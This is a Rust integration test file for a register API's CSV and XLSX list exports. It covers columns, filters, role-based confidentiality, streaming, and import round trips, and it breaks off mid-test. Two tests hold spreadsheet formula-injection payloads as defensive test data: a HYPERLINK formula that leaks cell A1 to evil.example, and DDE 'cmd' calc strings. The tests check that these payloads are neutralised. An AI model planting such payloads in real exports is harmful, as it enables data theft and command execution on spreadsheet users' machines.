//! Lists as CSV (`Accept: text/csv`): every list (the change feed, the audit trail and the
//! histories included), the JSON fields as columns (objects without a fixed shape as one cell of
//! JSON text), the same filters, the confidential columns of each caller, every row of a long
//! list in one streamed answer, 406 for formats no list answers, and a round trip through the
//! import.

use std::collections::{BTreeMap, BTreeSet};

use reqwest::StatusCode;
use serde_json::{Value, json};

use cress_api::core::Role;

use crate::changes::whole_feed;
use crate::helpers::{
    As, TestApp, csv_of, json_of, manager_of, organisation, partner_of, problem_of, sign_token_for, siren_from,
};
use crate::on_both_backends;

const ORGANISATIONS: &str = "/api/v1/organisations";

/// The CSV answer of `path` for `caller`.
async fn csv_from(caller: As<'_>, path: &str) -> (Vec<String>, Vec<Vec<String>>) {
    csv_of(
        caller
            .request(reqwest::Method::GET, path)
            .header("accept", "text/csv")
            .send()
            .await
            .expect("an answer"),
    )
    .await
}

async fn get_csv(app: &TestApp, path: &str) -> (Vec<String>, Vec<Vec<String>>) {
    csv_from(app.as_admin(), path).await
}

/// The answer of `path` to `caller` asking for CSV, whatever its status.
async fn ask_csv(caller: As<'_>, path: &str) -> reqwest::Response {
    caller
        .request(reqwest::Method::GET, path)
        .header("accept", "text/csv")
        .send()
        .await
        .expect("an answer")
}

/// The items of `path` (with a query string, `limit=200`) for `caller`, in one page that must
/// be the whole list.
async fn whole_page(caller: As<'_>, path: &str) -> Vec<Value> {
    let page = json_of(caller.get(path).await, StatusCode::OK).await;
    assert!(
        page["has_more"] == json!(false) || page["next_cursor"].is_null(),
        "{path} fits in one page: {page}"
    );
    page["items"].as_array().expect("items").clone()
}

/// The cells a JSON item fills, by column: nested objects spread into `<field>_<subfield>`
/// columns unless `header` has a column of the object's own name (then, like an array, one
/// cell); `null` fills nothing.
fn expected_cells(prefix: &str, value: &Value, header: &[String], cells: &mut BTreeMap<String, Value>) {
    match value {
        Value::Null => {}
        Value::Object(fields) if prefix.is_empty() || !header.iter().any(|c| c == prefix) => {
            for (name, value) in fields {
                let column = if prefix.is_empty() {
                    name.clone()
                } else {
                    format!("{prefix}_{name}")
                };
                expected_cells(&column, value, header, cells);
            }
        }
        _ => {
            cells.insert(prefix.to_owned(), value.clone());
        }
    }
}

/// Checks that the CSV rows are the JSON items, in order and cell by cell: a text field as is,
/// any other value as JSON text that parses back to it, an empty cell for `null` and withheld
/// fields, and a column for every field.
fn assert_rows_are_items(what: &str, header: &[String], rows: &[Vec<String>], items: &[Value]) {
    assert_eq!(rows.len(), items.len(), "{what}: as many rows as items");
    for (row, item) in rows.iter().zip(items) {
        let mut expected = BTreeMap::new();
        expected_cells("", item, header, &mut expected);
        for (column, cell) in header.iter().zip(row) {
            match expected.remove(column) {
                None => assert_eq!(cell, "", "{what}: {column} is empty for {item}"),
                Some(Value::String(text)) => assert_eq!(cell, &exported_text(&text), "{what}: {column} of {item}"),
                Some(value) => {
                    let parsed: Value = serde_json::from_str(cell)
                        .unwrap_or_else(|e| panic!("{what}: {column} of {item} is JSON text, not {cell:?}: {e}"));
                    assert_eq!(parsed, value, "{what}: {column} of {item}");
                }
            }
        }
        assert!(expected.is_empty(), "{what}: {header:?} has no column for {expected:?}");
    }
}

/// A text field as a CSV cell: with a leading `'` when a spreadsheet would take it for a formula
/// (it begins with `=`, `+`, `-`, `@`, a tab or a carriage return) or it begins with `'`.
fn exported_text(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// The cells of one CSV row by column.
fn record(header: &[String], row: &[String]) -> std::collections::HashMap<String, String> {
    header.iter().cloned().zip(row.iter().cloned()).collect()
}

/// The values of `column` in `rows`.
fn column(header: &[String], rows: &[Vec<String>], column: &str) -> Vec<String> {
    rows.iter().map(|r| record(header, r)[column].clone()).collect()
}

/// The ids of one record of every kind, by the collection of its path (`organisations`,
/// `esus-accreditations`, `clubs`, `events`, `sponsorships`, `users`, `clients`).
type Ids = BTreeMap<&'static str, String>;

/// Makes one record of every listed kind, as admin (the organisation changed once after its
/// creation), and returns their ids.
async fn one_of_each(app: &TestApp) -> Ids {
    let created = |response: reqwest::Response| async move {
        let body = json_of(response, StatusCode::CREATED).await;
        body["id"].as_str().expect("an id").to_owned()
    };
    let org = app
        .create_organisation(organisation(
            "Mutuelle, solidaire",
            json!({"category": "mutual", "siren": siren_from(10_000_001), "email": "contact@mutuelle.example", "city": "Sète"}),
        ))
        .await;
    let other = app
        .create_organisation(organisation("Cress Occitanie", json!({"category": "network"})))
        .await;
    let (org_id, other_id) = (
        org["id"].as_str().unwrap().to_owned(),
        other["id"].as_str().unwrap().to_owned(),
    );
    let changed = app
        .patch_json(
            &format!("{ORGANISATIONS}/{org_id}"),
            &json!({"phone": "04 67 00 00 00"}),
        )
        .await;
    assert_eq!(changed.status(), StatusCode::OK);
    let accreditation = json!({"applied_on": "2026-01-05", "basis": "conditions", "notes": "Dossier complet."});
    let path = format!("{ORGANISATIONS}/{org_id}/esus-accreditations");
    let accreditation_id = created(app.post_json(&path, &accreditation).await).await;
    let club = json!({"name": "Club des collectivités", "region_code": "76", "host_organisation_id": other_id});
    let club_id = created(app.post_json("/api/v1/clubs", &club).await).await;
    let member = app
        .post_json(
            &format!("/api/v1/clubs/{club_id}/members"),
            &json!({"organisation_id": org_id, "joined_on": "2026-01-15"}),
        )
        .await;
    assert_eq!(member.status(), StatusCode::CREATED);
    let event = json!({
        "title": "Mois de l'ESS", "kind": "meeting", "status": "published",
        "starts_at": "2026-11-10T09:00:00+01:00", "ends_at": "2026-11-10T12:00:00+01:00",
        "region_code": "76", "city": "Montpellier",
        "organisers": [{"organisation_id": other_id, "role": "organiser"}],
        "themes": ["mois-de-l-ess", "territoires"]
    });
    let event_id = created(app.post_json("/api/v1/events", &event).await).await;
    let draft = json!({
        "title": "Brouillon", "kind": "meeting", "status": "draft",
        "starts_at": "2026-12-10T09:00:00+01:00", "ends_at": "2026-12-10T12:00:00+01:00", "region_code": "76", "city": "Montpellier"
    });
    created(app.post_json("/api/v1/events", &draft).await).await;
    let sponsorship = json!({
        "sponsor_id": org_id, "beneficiary": {"type": "club", "id": club_id},
        "kind": "financial_patronage", "amount_cents": 150_000, "counterparts_cents": 10_000,
        "starts_on": "2026-01-01", "status": "active", "public": true, "notes": "Logo."
    });
    let sponsorship_id = created(app.post_json("/api/v1/sponsorships", &sponsorship).await).await;
    let user =
        json!({"email": "lecteur@cress.example", "password": "une phrase de passe assez longue", "role": "viewer"});
    let user_id = created(app.post_json("/api/v1/users", &user).await).await;
    let client = json!({"name": "SI partenaire", "role": "viewer"});
    let client_id = created(app.post_json("/api/v1/clients", &client).await).await;
    let webhook = json!({"url": "http://127.0.0.1:9/hooks", "types": ["organisation", "event"], "active": false});
    let webhook_id = created(app.post_json("/api/v1/webhooks", &webhook).await).await;
    Ids::from([
        ("organisations", org_id),
        ("esus-accreditations", accreditation_id),
        ("clubs", club_id),
        ("events", event_id),
        ("sponsorships", sponsorship_id),
        ("users", user_id),
        ("clients", client_id),
        ("webhooks", webhook_id),
    ])
}

/// The CSV header line that an operation's description gives for its export, if it has one.
fn documented_header(operation: &Value) -> Option<String> {
    let description = operation["description"].as_str()?;
    let (_, after) = description.split_once("**Exports.** `Accept: text/csv`")?;
    let (_, rest) = after.split_once("under the header line `")?;
    rest.split_once('`').map(|(header, _)| header.to_owned())
}

on_both_backends! {
    async fn every_list_answers_csv_with_its_json_fields_as_columns(app: TestApp) {
        let ids = one_of_each(&app).await;
        let doc = json_of(app.get("/api-docs/openapi.json").await, StatusCode::OK).await;
        let mut documented = Vec::new();
        for (path, item) in doc["paths"].as_object().unwrap() {
            if let Some(header) = documented_header(&item["get"]) {
                documented.push((path.clone(), header));
                assert!(item["get"]["responses"]["406"].is_object(), "{path} documents its 406");
                let xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
                assert!(item["get"]["description"].as_str().unwrap_or_default().contains(xlsx), "{path} documents XLSX");
                let media: Vec<&String> = item["get"]["responses"]["200"]["content"].as_object().unwrap().keys().collect();
                assert_eq!(media, ["application/json"], "{path}: the 200 declares the JSON page alone, for generated clients");
            }
        }
        assert_eq!(documented.len(), 18, "every list documents CSV: {documented:?}");
        for (path, documented_header) in documented {
            // `{id}` is the id of a record of the collection the path starts with.
            let collection = path.trim_start_matches("/api/v1/").split('/').next().unwrap_or_default();
            let path = path.replace("{id}", ids.get(collection).map_or("", String::as_str));
            let items = whole_page(app.as_admin(), &format!("{path}?limit=200")).await;
            assert!(!items.is_empty(), "{path} lists something");
            let (header, rows) = get_csv(&app, &path).await;
            assert_eq!(header.join(","), documented_header, "{path}: the header line its description gives");
            let columns: BTreeSet<&String> = header.iter().collect();
            assert_eq!(columns.len(), header.len(), "{path}: no column twice");
            assert_rows_are_items(&path, &header, &rows, &items);
            // The same rows as a workbook, under the titles of the same columns, in English as asked.
            let workbook = app
                .as_admin()
                .request(reqwest::Method::GET, &path)
                .header("accept", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
                .send()
                .await
                .unwrap();
            assert_eq!(workbook.status(), StatusCode::OK, "{path} as XLSX");
            let bytes = workbook.bytes().await.unwrap().to_vec();
            let mut book = <calamine::Xlsx<_> as calamine::Reader<_>>::new(std::io::Cursor::new(bytes)).expect("a workbook");
            let sheet = calamine::Reader::worksheet_range_at(&mut book, 0).unwrap().unwrap();
            assert_eq!(sheet.height(), rows.len() + 1, "{path}: the CSV rows and a header");
            let titles: Vec<String> =
                header.iter().map(|c| cress_api::http::xlsx::title(c, cress_api::domain::message::Lang::En)).collect();
            let first: Vec<String> = sheet.rows().next().unwrap().iter().map(ToString::to_string).collect();
            assert_eq!(first, titles, "{path}: the CSV columns");
        }
        let (header, rows) = get_csv(&app, "/api/v1/events").await;
        let cells = record(&header, &rows[0]);
        let themes: Value = serde_json::from_str(&cells["themes"]).expect("themes are JSON text");
        assert_eq!(themes.as_array().map(Vec::len), Some(2));
        let organisers: Value = serde_json::from_str(&cells["organisers"]).expect("organisers are JSON text");
        assert_eq!(organisers[0]["role"], "organiser");
        let (header, rows) = get_csv(&app, ORGANISATIONS).await;
        let mutual = rows.iter().map(|r| record(&header, r)).find(|r| r["name"] == "Mutuelle, solidaire").expect("listed");
        assert_eq!(mutual["esus_status"], "applied", "esus flattened");
        assert_eq!(mutual["esus_valid_until"], "");
        assert_eq!(mutual["is_ess"], "true");
        let (header, rows) = get_csv(&app, "/api/v1/changes").await;
        assert_eq!(header, ["position", "type", "id", "parent_id", "action", "version", "at", "data"]);
        let first = record(&header, &rows[0]);
        let data: Value = serde_json::from_str(&first["data"]).expect("data is JSON text");
        assert_eq!(data["name"], "Mutuelle, solidaire", "the record's fields in one cell");
        let path = format!("{ORGANISATIONS}/{}/history", ids["organisations"]);
        let (header, rows) = get_csv(&app, &path).await;
        assert!(header.iter().any(|c| c == "actor_subject") && !header.iter().any(|c| c.starts_with("data_") || c.starts_with("changes_")), "{header:?}");
        let phone = rows
            .iter()
            .map(|r| record(&header, r))
            .find(|r| r["changes"].contains("phone"))
            .expect("the update is in the history");
        let changes: Value = serde_json::from_str(&phone["changes"]).expect("changes is JSON text");
        assert_eq!(changes, json!({"phone": {"old": null, "new": "04 67 00 00 00"}}));
        assert_eq!([&phone["action"], &phone["actor_subject"], &phone["actor_kind"]], ["updated", "test", "system"]);
    }

    async fn csv_lists_apply_the_filters_sort_and_cursor(app: TestApp) {
        for (name, region) in [("Alpha", "76"), ("Bravo", "53"), ("Charlie", "76"), ("Delta", "76")] {
            app.create_organisation(organisation(name, json!({"region_code": region}))).await;
        }
        let names = |rows: &[Vec<String>], header: &[String]| -> Vec<String> {
            rows.iter().map(|r| record(header, r)["name"].clone()).collect()
        };
        let (header, rows) = get_csv(&app, "/api/v1/organisations?region_code=76&sort=-name&limit=1").await;
        assert_eq!(names(&rows, &header), ["Delta", "Charlie", "Alpha"], "every matching row; limit does not cut the export");
        let page = json_of(app.get("/api/v1/organisations?region_code=76&limit=1").await, StatusCode::OK).await;
        let cursor = page["next_cursor"].as_str().unwrap();
        let (header, rows) = get_csv(&app, &format!("/api/v1/organisations?region_code=76&cursor={cursor}")).await;
        assert_eq!(names(&rows, &header), ["Charlie", "Delta"], "from the cursor on");
        let (header, rows) = get_csv(&app, "/api/v1/organisations?q=zulu").await;
        assert!(rows.is_empty());
        assert_eq!(header[0], "id", "the header even without rows");
        for bad in ["/api/v1/organisations?limit=0", "/api/v1/organisations?cursor=nope", "/api/v1/organisations?colour=blue"] {
            let response = app.as_admin().request(reqwest::Method::GET, bad).header("accept", "text/csv").send().await.unwrap();
            assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{bad}");
        }
    }

    async fn csv_columns_follow_the_confidentiality_of_json(app: TestApp) {
        let home = app.create_organisation(organisation("Occitane", json!({"email": "a@occitane.example", "phone": "04 67 00 00 00"}))).await;
        app.create_organisation(organisation("Bretonne", json!({"region_code": "53", "email": "b@bretonne.example"}))).await;
        let csv_as = |role: Option<cress_api::core::Role>| {
            let request = match &role {
                Some(role) => app.as_role(role).request(reqwest::Method::GET, ORGANISATIONS),
                None => app.as_anonymous().request(reqwest::Method::GET, ORGANISATIONS),
            };
            async move { csv_of(request.header("accept", "text/csv").send().await.unwrap()).await }
        };
        for role in [None, Some(cress_api::core::Role::Viewer)] {
            let (header, rows) = csv_as(role.clone()).await;
            assert!(!header.contains(&"email".to_owned()) && !header.contains(&"phone".to_owned()), "{role:?}: {header:?}");
            assert_eq!(rows.len(), 2);
        }
        for (role, occitane, bretonne) in [
            (manager_of("76"), "a@occitane.example", ""),
            (partner_of(&home["id"]), "a@occitane.example", ""),
            (cress_api::core::Role::Admin, "a@occitane.example", "b@bretonne.example"),
        ] {
            let (header, rows) = csv_as(Some(role.clone())).await;
            let emails: Vec<(String, String)> = rows
                .iter()
                .map(|r| record(&header, r))
                .map(|r| (r["name"].clone(), r["email"].clone()))
                .collect();
            assert_eq!(
                emails,
                [("Bretonne".to_owned(), bretonne.to_owned()), ("Occitane".to_owned(), occitane.to_owned())],
                "{role:?}"
            );
        }
        // Anonymous callers see published events only, as in JSON.
        one_of_each(&app).await;
        let (header, rows) = csv_from(app.as_anonymous(), "/api/v1/events").await;
        let titles: Vec<String> = rows.iter().map(|r| record(&header, r)["title"].clone()).collect();
        assert_eq!(titles, ["Mois de l'ESS"]);
        let (header, rows) = get_csv(&app, "/api/v1/events").await;
        assert_eq!(rows.len(), 2, "{header:?}");
        // Sponsorship amounts: absent for anonymous callers, present for admins.
        let anonymous = csv_of(app.as_anonymous().request(reqwest::Method::GET, "/api/v1/sponsorships").header("accept", "text/csv").send().await.unwrap()).await;
        assert!(!anonymous.0.contains(&"amount_cents".to_owned()), "{:?}", anonymous.0);
        let (header, rows) = get_csv(&app, "/api/v1/sponsorships").await;
        assert_eq!(record(&header, &rows[0])["amount_cents"], "150000");
        assert_eq!(record(&header, &rows[0])["beneficiary_type"], "club");
        // Accounts stay the administrators' business.
        let refused = app.as_role(&cress_api::core::Role::Viewer).request(reqwest::Method::GET, "/api/v1/users").header("accept", "text/csv").send().await.unwrap();
        problem_of(refused, StatusCode::FORBIDDEN, "forbidden").await;
    }

    async fn lists_answer_json_by_default_and_406_for_other_formats(app: TestApp) {
        app.create_organisation(organisation("Alpha", json!({}))).await;
        for accept in [None, Some("application/json"), Some("*/*"), Some("text/csv;q=0.5, application/json")] {
            let mut request = app.as_admin().request(reqwest::Method::GET, ORGANISATIONS);
            if let Some(accept) = accept {
                request = request.header("accept", accept);
            }
            let response = request.send().await.unwrap();
            assert_eq!(response.headers()["content-type"], "application/json", "{accept:?}");
        }
        let response = app.as_admin().request(reqwest::Method::GET, ORGANISATIONS).header("accept", "application/xml").send().await.unwrap();
        problem_of(response, StatusCode::NOT_ACCEPTABLE, "not_acceptable").await;
    }

    async fn a_long_list_is_streamed_completely(app: TestApp) {
        let mut csv = String::from("name,category,siren,region_code\n");
        for n in 0..2000_u32 {
            csv.push_str(&format!("Structure {n:04},association,{},76\n", siren_from(20_000_000 + n)));
        }
        let report = app.send_raw(reqwest::Method::POST, "/api/v1/organisations/import", Some("text/csv"), csv.into_bytes()).await;
        assert_eq!(json_of(report, StatusCode::OK).await["created"], 2000);

        let response = app.as_admin().request(reqwest::Method::GET, ORGANISATIONS).header("accept", "text/csv").send().await.unwrap();
        assert!(response.headers().get("content-length").is_none(), "streamed, not buffered: {:?}", response.headers());
        let (header, rows) = csv_of(response).await;
        assert_eq!(rows.len(), 2000);
        let names: Vec<String> = rows.iter().map(|r| record(&header, r)["name"].clone()).collect();
        let expected: Vec<String> = (0..2000).map(|n| format!("Structure {n:04}")).collect();
        assert_eq!(names, expected, "every row once, in order");
    }

    async fn an_export_reimports_unchanged(app: TestApp) {
        for (name, overrides) in [
            ("Mutuelle « solidaire », Occitanie", json!({"category": "mutual", "siren": siren_from(30_000_003), "siret": null, "legal_category_code": "8210", "email": "contact@mutuelle.example", "phone": "04 67 00 00 00", "website": "https://mutuelle.example/", "founded_on": "1947-03-01"})),
            ("Cress Bretagne", json!({"category": "network", "region_code": "53", "description": "Ligne 1\nLigne 2; \"citée\"", "street": "1 rue de Rennes", "postal_code": "35000", "city": "Rennes", "commune_code": "35238"})),
            ("Association du lien", json!({"rna": "W751245606"})),
            ("'Les Amis' de la formule", json!({"description": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "phone": "+33 4 67 00 00 01", "street": "@ la mairie"})),
        ] {
            app.create_organisation(organisation(name, overrides)).await;
        }
        let export = app.as_admin().request(reqwest::Method::GET, ORGANISATIONS).header("accept", "text/csv").send().await.unwrap().bytes().await.unwrap();

        let empty = TestApp::spawn(app.backend).await;
        let report = empty.send_raw(reqwest::Method::POST, "/api/v1/organisations/import", Some("text/csv"), export.to_vec()).await;
        assert_eq!(json_of(report, StatusCode::OK).await["created"], 4);
        let writable = |items: Vec<Value>| -> Vec<Value> {
            items
                .into_iter()
                .map(|mut o| {
                    for read_only in ["id", "created_at", "updated_at", "version"] {
                        o.as_object_mut().unwrap().remove(read_only);
                    }
                    o
                })
                .collect()
        };
        let before = writable(app.all_pages("/api/v1/organisations?limit=200").await);
        let after = writable(empty.all_pages("/api/v1/organisations?limit=200").await);
        assert_eq!(after, before, "the same organisations, field for field");

        // Into the same register: the row with a SIREN is known and changes nothing; a row
        // without SIREN is a new organisation, unless another identifier is taken.
        let path = "/api/v1/organisations/import?on_conflict=update&mode=valid_only";
        let again = json_of(app.send_raw(reqwest::Method::POST, path, Some("text/csv"), export.to_vec()).await, StatusCode::OK).await;
        assert_eq!(
            [&again["unchanged"], &again["updated"], &again["created"], &again["failed"]],
            [&json!(1), &json!(0), &json!(2), &json!(1)],
            "{again}"
        );
        assert_eq!(again["errors"][0]["code"], "duplicate", "the RNA is taken: {again}");
    }

    async fn the_feed_as_csv_follows_types_and_after_and_resumes_from_its_last_row(app: TestApp) {
        one_of_each(&app).await;
        let all = whole_page(app.as_admin(), "/api/v1/changes?limit=200").await;
        let position = |item: &Value| item["position"].as_str().expect("a position").to_owned();
        let (fourth, last) = (position(&all[3]), position(all.last().expect("changes")));
        let of_types = |types: &[&str], from: usize| -> Vec<String> {
            all[from..].iter().filter(|i| types.iter().any(|t| i["type"] == *t)).map(position).collect()
        };
        let every = ["organisation", "esus_accreditation", "club", "club_member", "event", "sponsorship"];
        for (query, expected) in [
            ("types=event,sponsorship".to_owned(), of_types(&["event", "sponsorship"], 0)),
            (format!("after={fourth}"), of_types(&every, 4)),
            (format!("types=organisation,club_member&after={fourth}"), of_types(&["organisation", "club_member"], 4)),
            (format!("after={last}"), Vec::new()),
        ] {
            let path = format!("/api/v1/changes?{query}");
            let items = whole_page(app.as_admin(), &format!("{path}&limit=200")).await;
            let (header, rows) = get_csv(&app, &path).await;
            assert_eq!(column(&header, &rows, "position"), expected, "{path}: the rows the filters select");
            assert_rows_are_items(&path, &header, &rows, &items);
        }

        // The last row's position is where a consumer of the export resumes.
        let (header, rows) = get_csv(&app, "/api/v1/changes").await;
        let resume = column(&header, &rows, "position").pop().expect("rows");
        assert_eq!(resume, last);
        app.create_organisation(organisation("Après l'export", json!({}))).await;
        let (header, rows) = get_csv(&app, &format!("/api/v1/changes?after={resume}")).await;
        assert_eq!(column(&header, &rows, "action"), ["created"], "only the change made since");
        let data: Value = serde_json::from_str(&record(&header, &rows[0])["data"]).expect("data is JSON text");
        assert_eq!(data["name"], "Après l'export");

        for bad in ["after=xyz", "types=user", "limit=0", "cursor=MQ"] {
            let response = ask_csv(app.as_admin(), &format!("/api/v1/changes?{bad}")).await;
            assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{bad}");
        }
        let refused = ask_csv(app.as_anonymous(), "/api/v1/changes?types=esus_accreditation").await;
        problem_of(refused, StatusCode::UNAUTHORIZED, "unauthenticated").await;
    }

    async fn an_anonymous_feed_csv_holds_no_confidential_field_and_no_accreditation(app: TestApp) {
        one_of_each(&app).await;
        let confidential = ["email", "phone", "amount_cents", "counterparts_cents", "notes"];
        let confidential_in = |header: &[String], rows: &[Vec<String>]| -> BTreeSet<String> {
            let mut found = BTreeSet::new();
            for data in column(header, rows, "data").iter().filter(|d| !d.is_empty()) {
                let data: Value = serde_json::from_str(data).expect("data is JSON text");
                found.extend(confidential.iter().filter(|k| data.get(**k).is_some()).map(|k| (*k).to_owned()));
            }
            found
        };

        let (header, rows) = csv_from(app.as_anonymous(), "/api/v1/changes").await;

        assert_rows_are_items("anonymous feed", &header, &rows, &whole_feed(&app, None, "").await);
        assert!(header.iter().all(|c| !confidential.contains(&c.as_str())), "{header:?}");
        assert!(!column(&header, &rows, "type").contains(&"esus_accreditation".to_owned()));
        assert_eq!(confidential_in(&header, &rows), BTreeSet::new(), "no confidential field in any data");
        // An administrator's export of the same feed holds them all.
        let (header, rows) = get_csv(&app, "/api/v1/changes").await;
        assert_eq!(confidential_in(&header, &rows).len(), confidential.len());
        assert!(column(&header, &rows, "type").contains(&"esus_accreditation".to_owned()));
    }

    async fn the_audit_as_csv_follows_its_filters_and_a_managers_region(app: TestApp) {
        const PERSON: &str = "0193a1f2-5b6c-7d8e-9f0a-1b2c3d4e5f60";
        let ids = one_of_each(&app).await;
        let away = app.create_organisation(organisation("Coopérative bretonne", json!({"region_code": "53"}))).await;
        let away_id = away["id"].as_str().expect("an id").to_owned();
        let changed = app
            .client
            .patch(app.url(&format!("{ORGANISATIONS}/{away_id}")))
            .bearer_auth(sign_token_for(PERSON, &Role::Admin))
            .json(&json!({"city": "Rennes"}))
            .send()
            .await
            .expect("an answer");
        assert_eq!(changed.status(), StatusCode::OK);
        let all = whole_page(app.as_admin(), "/api/v1/audit?limit=200").await;
        let at = |item: &Value| chrono::DateTime::parse_from_rfc3339(item["at"].as_str().expect("at")).expect("RFC 3339");
        let middle = all[all.len() / 2]["at"].as_str().expect("at").to_owned();
        let cut = at(&all[all.len() / 2]);
        let org = ids["organisations"].clone();
        // The positions of the changes `selected` keeps, newest first.
        let positions_of = |selected: &dyn Fn(&Value) -> bool| -> Vec<String> {
            all.iter().filter(|i| selected(i)).map(|i| i["position"].as_str().expect("a position").to_owned()).collect()
        };
        for (query, expected) in [
            ("resource=club_member".to_owned(), positions_of(&|i| i["resource"] == "club_member")),
            (format!("id={org}"), positions_of(&|i| i["id"] == org.as_str())),
            (format!("actor={PERSON}"), positions_of(&|i| i["actor"]["subject"] == PERSON)),
            (format!("from={middle}"), positions_of(&|i| at(i) >= cut)),
            (format!("resource=organisation&to={middle}"), positions_of(&|i| i["resource"] == "organisation" && at(i) < cut)),
        ] {
            let path = format!("/api/v1/audit?{query}");
            assert!(!expected.is_empty() && expected.len() < all.len(), "{query} selects some changes");
            let items = whole_page(app.as_admin(), &format!("{path}&limit=200")).await;
            let (header, rows) = get_csv(&app, &path).await;
            assert_eq!(column(&header, &rows, "position"), expected, "{path}: the rows the filters select");
            assert_rows_are_items(&path, &header, &rows, &items);
        }

        // A Cress manager: its region's changes only, never accounts.
        let manager = manager_of("76");
        let (header, rows) = csv_from(app.as_role(&manager), "/api/v1/audit").await;
        assert_rows_are_items("a manager's audit", &header, &rows, &whole_page(app.as_role(&manager), "/api/v1/audit?limit=200").await);
        assert!(!rows.is_empty());
        assert!(column(&header, &rows, "region_code").iter().all(|r| r == "76"), "{rows:?}");
        assert!(!column(&header, &rows, "id").contains(&away_id));
        assert!(column(&header, &rows, "resource").iter().all(|r| r != "user" && r != "api_client"));
        let (_, rows) = csv_from(app.as_role(&manager), &format!("{ORGANISATIONS}/{away_id}/history")).await;
        assert!(rows.is_empty(), "another region's record: no row");
        problem_of(ask_csv(app.as_role(&manager), &format!("/api/v1/users/{}/history", ids["users"])).await, StatusCode::FORBIDDEN, "forbidden").await;
        problem_of(ask_csv(app.as_role(&Role::Viewer), "/api/v1/audit").await, StatusCode::FORBIDDEN, "forbidden").await;
        problem_of(ask_csv(app.as_anonymous(), "/api/v1/audit").await, StatusCode::UNAUTHORIZED, "unauthenticated").await;
        problem_of(ask_csv(app.as_admin(), &format!("/api/v1/events/{org}/history")).await, StatusCode::NOT_FOUND, "not_found").await;
        for bad in ["cursor=zz", "limit=0", "from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z"] {
            assert_eq!(ask_csv(app.as_admin(), &format!("/api/v1/audit?{bad}")).await.status(), StatusCode::BAD_REQUEST, "{bad}");
        }
        for path in ["/api/v1/changes".to_owned(), "/api/v1/audit".to_owned(), format!("{ORGANISATIONS}/{org}/history")] {
            let response = app.as_admin().request(reqwest::Method::GET, &path).header("accept", "application/xml").send().await.unwrap();
            problem_of(response, StatusCode::NOT_ACCEPTABLE, "not_acceptable").await;
        }
    }

    async fn the_feed_and_the_audit_csv_walk_past_one_page(app: TestApp) {
        let count = usize::try_from(cress_api::http::csv::EXPORT_PAGE).expect("a page size") + 30;
        let mut csv = String::from("name,category,siren,region_code\n");
        for n in 0..count {
            csv.push_str(&format!("Structure {n:04},association,{},76\n", siren_from(40_000_000 + n as u32)));
        }
        let report = app.send_raw(reqwest::Method::POST, "/api/v1/organisations/import", Some("text/csv"), csv.into_bytes()).await;
        assert_eq!(json_of(report, StatusCode::OK).await["created"], count);

        for (path, items) in [
            ("/api/v1/changes", whole_feed(&app, Some(&Role::Admin), "").await),
            ("/api/v1/audit", app.all_pages("/api/v1/audit?limit=200").await),
        ] {
            let response = ask_csv(app.as_admin(), path).await;
            assert!(response.headers().get("content-length").is_none(), "{path} is streamed: {:?}", response.headers());
            let (header, rows) = csv_of(response).await;
            assert_eq!(rows.len(), count, "{path}: every change once");
            assert_rows_are_items(path, &header, &rows, &items);
        }
    }

    async fn no_exported_cell_is_a_formula_for_any_caller(app: TestApp) {
        // Arrange: a partner's description that a spreadsheet would run.
        let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        for (name, description) in [
            ("Formule égale", formula.to_owned()),
            ("Formule plus", "+cmd|' /C calc'!A0".to_owned()),
            ("Formule moins", "-2+3".to_owned()),
            ("Formule arobase", "@SUM(1+1)*cmd|' /C calc'!A0".to_owned()),
            ("Formule tabulation", "\t=1+1".to_owned()),
            ("Formule retour", "\r=1+1".to_owned()),
        ] {
            app.create_organisation(organisation(name, json!({"description": description}))).await;
        }
        let viewer = Role::Viewer;
        for (who, caller) in [("anonymous", app.as_anonymous()), ("viewer", app.as_role(&viewer)), ("admin", app.as_admin())] {
            // Act
            let (header, rows) = csv_from(caller, &format!("{ORGANISATIONS}?limit=200")).await;
            // Assert
            let descriptions = column(&header, &rows, "description");
            assert_eq!(descriptions.len(), 6, "{who}");
            for cell in descriptions {
                assert!(cell.starts_with('\''), "{who}: {cell:?} is neutralised");
            }
            assert!(column(&header, &rows, "description").contains(&format!("'{formula}")), "{who}");
        }
    }
}

on_both_backends! {
    async fn every_list_counts_what_its_filters_match_when_asked(app: TestApp) {
        let ids = one_of_each(&app).await;
        let doc = json_of(app.get("/api-docs/openapi.json").await, StatusCode::OK).await;
        let mut lists = 0;
        for (path, item) in doc["paths"].as_object().unwrap() {
            let Some(list) = item["get"].as_object().filter(|_| documented_header(&item["get"]).is_some()) else {
                continue;
            };
            lists += 1;
            let parameters = list["parameters"].as_array().expect("a list has parameters");
            assert!(parameters.iter().any(|p| p["name"] == "count"), "{path} documents count");
            let page_ref = list["responses"]["200"]["content"]["application/json"]["schema"]["$ref"].as_str().unwrap();
            let page_schema = doc.pointer(page_ref.trim_start_matches('#')).unwrap();
            assert!(page_schema["properties"]["total"].is_object(), "{path}'s page documents total");
            let collection = path.trim_start_matches("/api/v1/").split('/').next().unwrap_or_default();
            let path = path.replace("{id}", ids.get(collection).map_or("", String::as_str));
            let all = whole_page(app.as_admin(), &format!("{path}?limit=200")).await;
            let first = json_of(app.as_admin().get(&format!("{path}?limit=1&count=true")).await, StatusCode::OK).await;
            assert_eq!(first["total"], json!(all.len()), "{path}: {first}");
            assert_eq!(first["items"].as_array().map(Vec::len), Some(1), "{path}: the page keeps its limit");
            let plain = json_of(app.as_admin().get(&format!("{path}?limit=1")).await, StatusCode::OK).await;
            assert!(plain.get("total").is_none(), "{path}: no total unless asked: {plain}");
            if first["has_more"] == json!(true) {
                let next = first["next_cursor"].as_str().unwrap();
                let resume = if path.ends_with("/changes") { "after" } else { "cursor" };
                let second = json_of(app.as_admin().get(&format!("{path}?limit=1&count=true&{resume}={next}")).await, StatusCode::OK).await;
                assert_eq!(second["total"], first["total"], "{path}: the total of the whole list on every page");
            }
        }
        assert_eq!(lists, 18, "every list");
        // The same filters and the caller's scope: a filter narrows the total, and anonymous
        // callers count the published events only.
        let filtered = json_of(app.get(&format!("{ORGANISATIONS}?region_code=76&count=true")).await, StatusCode::OK).await;
